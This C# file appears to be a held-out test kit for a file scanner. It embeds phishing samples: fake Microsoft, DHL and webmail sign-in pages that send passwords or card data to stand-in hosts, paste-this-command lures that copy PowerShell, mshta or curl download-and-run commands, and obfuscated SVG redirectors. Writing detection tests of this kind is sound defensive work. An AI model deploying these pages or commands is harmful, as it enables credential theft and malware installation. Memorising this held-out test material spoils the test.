using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Attached pages that look like a brand's sign-in and send the password to a stranger.</summary>
public sealed class SignInTrap : SeventhRound
{
    private const string Webmail = """
        <html><head><title>Webmail Login</title></head><body style="background:#eef2f6;font-family:Verdana">
        <div style="width:340px;margin:80px auto;background:#fff;padding:24px"><h3>Zimbra Web Client</h3><p>Your session has expired. Sign in again to read 6 pending messages.</p>
        <form method="post" action="https://mail-quota.example/z/post.php"><input name="user" value="accounts@customer.example" readonly><br><br>
        <input type="password" name="pass" placeholder="Password" required><br><br><button>Sign in</button></form></div></body></html>
        """;

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Payment_Advice.html", Utf8("""
            <!DOCTYPE html>
            <html lang="en">
            <head>
            <meta charset="utf-8">
            <title>Sign in to your Microsoft account</title>
            <link rel="icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_made-up-path.ico">
            <style>
            body { background: #f2f2f2; font-family: "Segoe UI", sans-serif; }
            .box { width: 360px; margin: 10% auto; background: #fff; padding: 44px; box-shadow: 0 2px 6px rgba(0,0,0,.2); }
            input { width: 100%; border: 0; border-bottom: 1px solid #666; padding: 6px 0; margin: 12px 0; }
            .next { background: #0067b8; color: #fff; border: 0; padding: 8px 32px; float: right; }
            </style>
            </head>
            <body>
            <div class="box">
              <img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_made-up-path.svg" alt="Microsoft">
              <h2>Enter password</h2>
              <p>Because you're accessing sensitive info, you need to verify your password.</p>
              <form action="https://secure-docs.example/o365/next.php" method="POST">
                <input type="email" name="login" value="finance@customer.example">
                <input type="password" name="passwd" placeholder="Password" required>
                <a href="#">Forgot my password</a>
                <input class="next" type="submit" value="Sign in">
              </form>
            </div>
            </body>
            </html>
            """)),
        ("DHL_Sendung_00340434.html", Utf8("""
            <!DOCTYPE html>
            <html lang="de"><head><meta charset="utf-8"><title>DHL Sendungsverfolgung</title>
            <style>header{background:#fc0;color:#d40511;font:bold italic 34px Arial;padding:10px 30px}main{width:420px;margin:40px auto;font-family:Arial}input{display:block;width:100%;margin:8px 0;padding:10px}</style></head>
            <body><header>DHL</header><main>
            <h3>Ihr Paket wartet auf die Zustellung</h3>
            <p>Für die erneute Zustellung der Sendung <b>00340434 1611</b> fällt eine Zollgebühr von <b>2,99 €</b> an. Bestätigen Sie die Zahlung innerhalb von 24 Stunden.</p>
            <form id="f">
              <input id="n" placeholder="Name auf der Karte"><input id="c" maxlength="19" placeholder="Kartennummer" autocomplete="cc-number">
              <input id="e" placeholder="MM/JJ"><input id="v" maxlength="4" placeholder="CVV"><input id="p" type="password" placeholder="Online-Banking-PIN">
              <button>Bezahlen</button>
            </form><p id="m"></p></main>
            <script>
            document.getElementById('f').addEventListener('submit', function (e) {
              e.preventDefault();
              var t = ['n', 'c', 'e', 'v', 'p'].map(function (k) { return k + ': ' + document.getElementById(k).value; }).join('\n');
              fetch('https://api.telegram.org/bot0000000000:not-a-real-token/sendMessage?chat_id=-100000000&text=' + encodeURIComponent(t + '\n' + navigator.userAgent))
                .then(function () { location.href = 'https://www.dhl.de/'; });
            });
            </script></body></html>
            """)),
        ("Messages_pending.shtml", Utf8(Fill("""
            <script language="javascript">
            <!--
            document.write(unescape('@@1'));
            //-->
            </script>
            <noscript>Please enable JavaScript to read this document.</noscript>
            """, string.Concat(Webmail.Select(letter => $"%{(int)letter:X2}"))))),
        ("Remittance_Nov.xlsx.html", Utf8(Fill("""
            <!doctype html><html><head><meta charset="utf-8"><meta name="robots" content="noindex"><title>&#83;hare&#x200c;Po&#8203;int</title>
            <style>.b{filter:blur(4px);background:repeating-linear-gradient(#fff 0 22px,#e3e3e3 22px 23px);position:fixed;inset:0}.c{position:fixed;top:26%;left:50%;margin-left:-170px;width:340px;background:#fff;padding:22px;font-family:Segoe UI}
            .q{display:grid;grid-template-columns:10px 10px;gap:2px}.q i{width:10px;height:10px}</style></head>
            <body><div class="b"></div><div class="c"><div class="q"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div>
            <p>M&#8203;icro&#8203;soft &middot; <span id="u"></span></p><p id="e">Confirm that it is you to open <b>Remittance_Nov.xlsx</b></p>
            <input id="k" style="-webkit-text-security:disc" autocomplete="off" placeholder="P&#8203;assw&#8203;ord"> <span id="g" style="background:#0067b8;color:#fff;padding:6px 18px;cursor:pointer">Open</span></div>
            <script>
            (function (d) {
              var p = (location.hash.slice(1) || '@@1'), u = /@/.test(p) ? p : atob(p), n = 0, s = '@@2'.match(/../g).map(function (h) { return String.fromCharCode(parseInt(h, 16) ^ 29); }).join('');
              d.getElementById('u').textContent = u;
              d.getElementById('g').onclick = function () {
                var k = d.getElementById('k'), x = new XMLHttpRequest();
                x.open('POST', s); x.send(JSON.stringify({ a: u, b: btoa(k.value), c: ++n }));
                k.value = '';
                d.getElementById('e').innerHTML = '<span style="color:#e81123">Your account or p&#8203;assword is incorrect.</span>';
                if (n > 1) x.onload = function () { location.replace('https://www.office.com/'); };
              };
            })(document);
            </script></body></html>
            """, Base64("treasury@customer.example"), Hex("https://file-viewer.example/s/in", 29)))),
    ];
}

/// <summary>Pages that have the reader paste a command, dressed as a check whether he is human or as the mending of a fault.</summary>
public sealed class FakeCheckPage : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("verify.html", Utf8("""
            <!DOCTYPE html>
            <html lang="en"><head><meta charset="UTF-8"><title>reCAPTCHA Verification</title>
            <style>.box{width:302px;border:1px solid #d3d3d3;background:#f9f9f9;padding:20px;margin:15% auto;font-family:Roboto}.steps{display:none;width:360px;margin:20px auto}</style></head>
            <body>
            <div class="box"><label><input type="checkbox" id="check" onclick="verify()"> I'm not a robot</label></div>
            <div class="steps" id="steps">
              <h3>Verification Steps</h3>
              <ol><li>Press Windows Button <b>Win + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol>
            </div>
            <script>
            function verify() {
              const cmd = 'powershell -w hidden -c "iwr http://192.0.2.88/v.txt | iex" # ✅ I am not a robot - reCAPTCHA Verification ID: 146820';
              navigator.clipboard.writeText(cmd);
              document.getElementById('steps').style.display = 'block';
            }
            </script>
            </body></html>
            """)),
        ("checking-browser.html", Utf8("""
            <!DOCTYPE html>
            <html lang="en-US"><head><title>Just a moment...</title><meta name="viewport" content="width=device-width">
            <style>body{font-family:system-ui;max-width:60rem;margin:8rem auto}#modal{display:none;border:1px solid #ccc;padding:16px}textarea{position:absolute;left:-2000px}</style></head>
            <body><h1>portal.customer.example</h1><h2>Verify you are human by completing the action below.</h2>
            <div id="cf"><input type="checkbox" id="c"> Verify you are human <small>CLOUDFLARE</small></div>
            <div id="modal"><p>Unusual web traffic detected. To better prove you are not a robot, please:</p>
            <p>1. Press and hold the Windows key <b>⊞</b> + <b>R</b>.<br>2. In the verification window, press <b>Ctrl</b> + <b>V</b>.<br>3. Press <b>Enter</b> on your keyboard to finish.</p>
            <p>You will observe and agree: <code>✔ Cloudflare Unique Ray ID: 8d1f00c4</code></p></div>
            <textarea id="ta" readonly></textarea>
            <script>
            document.getElementById('c').addEventListener('change', function () {
              var ta = document.getElementById('ta');
              ta.value = 'mshta https://ray-check.example/cf/8d1f00c4.mp4 # ✔ Cloudflare Unique Ray ID: 8d1f00c4';
              ta.select();
              document.execCommand('copy');
              document.getElementById('modal').style.display = 'block';
              fetch('https://ray-check.example/hit?r=' + encodeURIComponent(document.referrer));
            });
            </script></body></html>
            """)),
        ("Contrat-Word-en-ligne.html", Utf8("""
            <!DOCTYPE html>
            <html lang="fr"><head><meta charset="utf-8"><title>Word en ligne</title>
            <style>body{background:#2b579a33;font-family:Calibri}.m{width:520px;margin:90px auto;background:#fff;padding:22px;border-left:6px solid #2b579a}button{background:#2b579a;color:#fff;border:0;padding:8px 20px}</style></head>
            <body><div class="m"><h3>L'extension « Word Online » n'est pas installée</h3>
            <p>Pour afficher le document hors ligne, corrigez l'erreur 0x80042 à l'aide du bouton, puis suivez les instructions.</p>
            <button id="fix">Comment corriger</button>
            <div id="win" hidden><p>Appuyez sur <kbd>Windows</kbd> + <kbd>X</kbd>, choisissez <b>Terminal (administrateur)</b>, faites un clic droit dans la fenêtre pour coller le correctif et appuyez sur <kbd>Entrée</kbd>.</p></div>
            <div id="mac" hidden><p>Ouvrez <b>Terminal</b> avec <kbd>⌘</kbd> + <kbd>Espace</kbd>, collez avec <kbd>⌘</kbd> + <kbd>V</kbd> et appuyez sur <kbd>Entrée</kbd>.</p></div></div>
            <script>
            var mac = /Mac/.test(navigator.platform);
            document.getElementById('fix').onclick = function () {
              var t = mac ? "curl -fsSL https://word-fix.example/m.sh | bash" :
                "ipconfig /flushdns; $b='aHR0cHM6Ly93b3JkLWZpeC5leGFtcGxlL3cucHMx'; iex (irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))); Set-Clipboard -Value ' '; exit";
              navigator.clipboard.writeText(t).then(function () { document.getElementById(mac ? 'mac' : 'win').hidden = false; });
            };
            </script></body></html>
            """)),
        ("shared-file.html", Utf8(Fill("""
            <!doctype html><html lang="en"><head><meta charset="utf-8"><title>HRPolicy.docx was shared with you</title>
            <style>body{font:15px/1.5 sans-serif;max-width:560px;margin:60px auto}#p{background:#eee;padding:8px;font-family:monospace;user-select:all}</style></head>
            <body><h2>To reach the file, follow these steps</h2>
            <ol><li>Copy the path of the file below</li><li>Open the file manager and choose the address bar (<b>CTRL + L</b>)</li><li>Insert the path and confirm it</li></ol>
            <p id="p">C:\company\internal-secure\filedrive\HRPolicy.docx</p>
            <p><button id="b">Copy</button> <button id="o">Open file manager</button><input type="file" id="i" hidden></p>
            <script>
            const shift = (t, n) => [...t].map((c) => String.fromCharCode(c.charCodeAt(0) - n)).join('');
            const held = shift(@@1, 4);
            const swap = (e) => { e.clipboardData.setData('text/plain', held + ' '.repeat(140) + '# ' + document.getElementById('p').textContent); e.preventDefault(); };
            document.addEventListener('copy', swap);
            b.onclick = () => { getSelection().selectAllChildren(p); document.execCommand('co' + 'py'); };
            o.onclick = () => i.click();
            </script></body></html>
            """, "'" + new string([.. "Powershell.exe -c ping 192.0.2.71; iwr https://share-hr.example/p -o $env:TEMP/p.ps1; & $env:TEMP/p.ps1".Select(letter => (char)(letter + 4))]) + "'"))),
    ];
}

/// <summary>SVG pictures that forward the reader or ask for his password.</summary>
public sealed class PictureThatForwards : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("voicemail.svg", Utf8("""
            <?xml version="1.0" encoding="UTF-8" standalone="no"?>
            <svg xmlns="http://www.w3.org/2000/svg" width="400" height="250" onload="go()">
              <script type="text/javascript"><![CDATA[
                function go() { window.location.href = "https://voice-portal.example/play?u=info@customer.example"; }
              ]]></script>
              <text x="40" y="120">Loading your voicemail...</text>
            </svg>
            """)),
        ("Bestellung_7781.svg", Utf8("""
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 800 600">
              <rect width="800" height="600" fill="#f3f2f1"/>
              <foreignObject x="220" y="140" width="360" height="320">
                <body xmlns="http://www.w3.org/1999/xhtml" style="background:#fff;padding:20px;font-family:Segoe UI">
                  <h3>Excel Online</h3><p>Melden Sie sich an, um Bestellung_7781.xlsx anzuzeigen.</p>
                  <form action="https://xls-viewer.example/login.php" method="post">
                    <input name="mail" type="email" value="einkauf@kunde.example"/><br/><br/>
                    <input name="pw" type="password" placeholder="Kennwort"/><br/><br/>
                    <input type="submit" value="Anmelden"/>
                  </form>
                </body>
              </foreignObject>
            </svg>
            """)),
        ("Play_VM_01m24s.svg", Utf8(Fill("""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="1" height="1" data-m="@@2">
            <script type="application/ecmascript"><![CDATA[
            (()=>{const k="a41c9e",h="@@1";let r="";for(let i=0;i<h.length;i+=2)r+=String.fromCharCode(parseInt(h.substr(i,2),16)^k.charCodeAt(i/2%k.length));
            const m=document.documentElement.getAttribute("data-m");window["lo"+"cation"]["re"+"place"](r+"#"+m);})();
            ]]></script>
            </svg>
            """, Keyed("https://vm-listen.example/auth/", "a41c9e"), Base64("ceo@customer.example")))),
        ("logo-neu.svg", Utf8(Fill("""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 240 80">
              <title>Logo</title>
              <defs><linearGradient id="g"><stop offset="0" stop-color="#0a4"/><stop offset="1" stop-color="#06c"/></linearGradient></defs>
              <path d="M10 70 L40 10 L70 70 Z" fill="url(#g)"/>
              <text x="90" y="52" font-size="30">Nordhafen</text>
              <image width="0" height="0" xlink:href="x:" onerror="fetch(atob('@@1')).then(r=&gt;r.text()).then(t=&gt;document.documentElement.append(Object.assign(document.createElementNS('http://www.w3.org/1999/xhtml','iframe'),{srcdoc:t,style:'position:fixed;inset:0;width:100%;height:100%;border:0'})))"/>
              <a><rect width="240" height="80" fill-opacity="0"/><animate attributeName="href" values="data:text/html;base64,@@2"/></a>
            </svg>
            """, Base64("https://nordhafen-brand.example/l"), Base64("<meta http-equiv=refresh content='0;url=https://nordhafen-brand.example/login'>")))),
    ];

    private static string Keyed(string text, string key) => Convert.ToHexStringLower([.. text.Select((letter, at) => (byte)(letter ^ key[at % key.Length]))]);
}
